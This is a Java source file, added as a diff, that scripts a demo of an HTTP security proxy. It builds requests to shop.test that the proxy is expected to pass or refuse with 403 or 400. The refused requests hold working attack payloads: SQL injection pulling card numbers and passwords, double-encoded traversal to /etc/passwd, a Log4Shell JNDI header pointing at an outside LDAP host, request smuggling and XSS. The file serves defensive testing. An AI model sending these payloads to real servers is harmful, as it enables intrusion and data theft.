@@ -1,0 +1,88 @@
+package io.bulwark.proxy.demo;
+
+import java.io.ByteArrayOutputStream;
+import java.io.IOException;
+import java.io.UncheckedIOException;
+import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.Collections;
+import java.util.List;
+import java.util.zip.GZIPOutputStream;
+
+/** The script of the demo. */
+public final class Scenes {
+    private static final int LONG_CONNECTION = 50;
+
+    private Scenes() {}
+
+    public static List<Scene> all() {
+        return List.of(
+                passes("an order is read", get("/orders/42")),
+                passes("an order is placed", post("/orders", "application/json", text("{\"item\":7,\"note\":\"O'Reilly\"}"))),
+                passes("a search for the words 'union select'", get("/search?q=european+union+select+committee")),
+                refused("SQL injection in a parameter", "sqli", get("/orders/42?id=1%27%20UNION%20SELECT%20card%20FROM%20users--")),
+                refused("path traversal, encoded twice", "traversal", get("/static/%252e%252e/%252e%252e/etc/passwd")),
+                refused("log4shell in a header", "log4shell", get("/orders/42", "User-Agent: ${${lower:j}ndi:ldap://198.51.100.7/a}")),
+                refused("SQL injection in a gzipped body", "sqli", gzipPost("/orders", "{\"id\":\"1' OR '1'='1' UNION SELECT password FROM users\"}")),
+                refused("a card number leaves in a response", "dlp", get("/reports/payments")),
+                refused("a call that no allowlist rule covers", "allowlist", request("DELETE", "/orders/42")),
+                new Scene("request smuggling, two framings at once", List.of(smuggled()), 400, "http."),
+                afterManyGood());
+    }
+
+    private static Scene passes(String title, byte[] request) {
+        return new Scene(title, List.of(request), 200, "");
+    }
+
+    private static Scene refused(String title, String rule, byte[] request) {
+        return new Scene(title, List.of(request), 403, rule);
+    }
+
+    private static Scene afterManyGood() {
+        var requests = new ArrayList<>(Collections.nCopies(LONG_CONNECTION - 1, get("/orders/42")));
+        requests.add(get("/orders/42?next=%3Cscript%3Ealert(1)%3C/script%3E"));
+        return new Scene("an attack as request " + LONG_CONNECTION + " of a connection", requests, 403, "xss");
+    }
+
+    private static byte[] get(String target, String... headers) {
+        return request("GET", target, headers);
+    }
+
+    private static byte[] request(String method, String target, String... headers) {
+        var more = headers.length == 0 ? "" : String.join("\r\n", headers) + "\r\n";
+        return text(method + " " + target + " HTTP/1.1\r\nHost: shop.test\r\nAccept: */*\r\n" + more + "\r\n");
+    }
+
+    private static byte[] post(String target, String type, byte[] body, String... headers) {
+        var more = headers.length == 0 ? "" : String.join("\r\n", headers) + "\r\n";
+        var head = text("POST " + target + " HTTP/1.1\r\nHost: shop.test\r\nContent-Type: " + type + "\r\n" + more
+                + "Content-Length: " + body.length + "\r\n\r\n");
+        return joined(head, body);
+    }
+
+    private static byte[] gzipPost(String target, String body) {
+        var packed = new ByteArrayOutputStream();
+        try (var gzip = new GZIPOutputStream(packed)) {
+            gzip.write(text(body));
+        } catch (IOException impossible) {
+            throw new UncheckedIOException(impossible);
+        }
+        return post(target, "application/json", packed.toByteArray(), "Content-Encoding: gzip");
+    }
+
+    private static byte[] smuggled() {
+        return text("POST /orders HTTP/1.1\r\nHost: shop.test\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n"
+                + "0\r\n\r\nGET /admin HTTP/1.1\r\nHost: shop.test\r\n\r\n");
+    }
+
+    private static byte[] joined(byte[] first, byte[] second) {
+        var both = new byte[first.length + second.length];
+        System.arraycopy(first, 0, both, 0, first.length);
+        System.arraycopy(second, 0, both, first.length, second.length);
+        return both;
+    }
+
+    private static byte[] text(String text) {
+        return text.getBytes(StandardCharsets.UTF_8);
+    }
+}
